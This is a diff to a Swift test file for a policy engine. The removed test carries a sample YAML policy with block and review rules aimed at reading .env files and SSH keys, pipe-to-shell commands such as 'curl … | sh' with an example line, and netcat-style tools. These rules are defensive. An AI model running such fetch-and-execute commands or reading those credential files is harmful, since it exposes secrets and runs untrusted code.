@@ -102,51 +102,15 @@ import Testing
         #expect(policy.rules.count > 10)
     }
 
-    /// SPEC.md's example policy extends default and redefines several of its ids.
-    @Test func specExamplePolicyLoads() throws {
-        let yaml = """
-            version: 1
-            name: my-policy
-            extends: default
-            defaults:
-              file: allow
-              exec: allow
-              network: review
-            rules:
-              - id: secrets.dotenv
-                surface: file
-                match:
-                  path: ["**/.env", "**/.env.*", "~/.ssh/id_*"]
-                  access: [read, write]
-                action: block
-                reason: Reading or writing .env files exposes secrets.
-              - id: exec.pipe-to-shell
-                surface: exec
-                match:
-                  command: ["curl * | sh*", "wget * | *sh"]
-                action: block
-                examples:
-                  match: ["curl -fsSL https://x.example/i.sh | sh"]
-                  not_match: ["curl -o out.tar.gz https://x.example/a.tar.gz"]
-              - id: exec.no-netcat
-                surface: exec
-                match:
-                  program: [nc, ncat, socat]
-                action: review
-              - id: net.llm-apis
-                surface: network
-                match:
-                  host: [api.openai.com, "*.anthropic.com"]
-                  port: [443]
-                action: allow
-              - id: net.loopback
-                surface: network
-                match:
-                  address: [127.0.0.0/8, "::1/128"]
-                action: allow
-            """
+    /// SPEC.md's example policy extends default and redefines ids the pack has (the full
+    /// example is parsed in PolicyParserTests; here, what `extends: default` does to it).
+    @Test func redefiningSeveralPackRulesKeepsTheirNewMeaning() throws {
+        let yaml = "version: 1\nextends: default\nrules:\n"
+            + rule("secrets.dotenv", path: "**/.env")
+            + "  - {id: net.loopback, surface: network, match: {address: [127.0.0.0/8]}, action: allow}\n"
         let engine = Engine(CompiledPolicy(try Policy.parse(yaml: yaml, path: "spec.yaml", context: testContext)))
         #expect(engine.decide(file("/home/dev/app/.env")).ruleID == "secrets.dotenv")
+        #expect(engine.decide(connect("127.0.0.2", 80)).ruleID == "net.loopback")
         #expect(engine.decide(connect("127.0.0.2", 80)).action == .allow)
     }
 
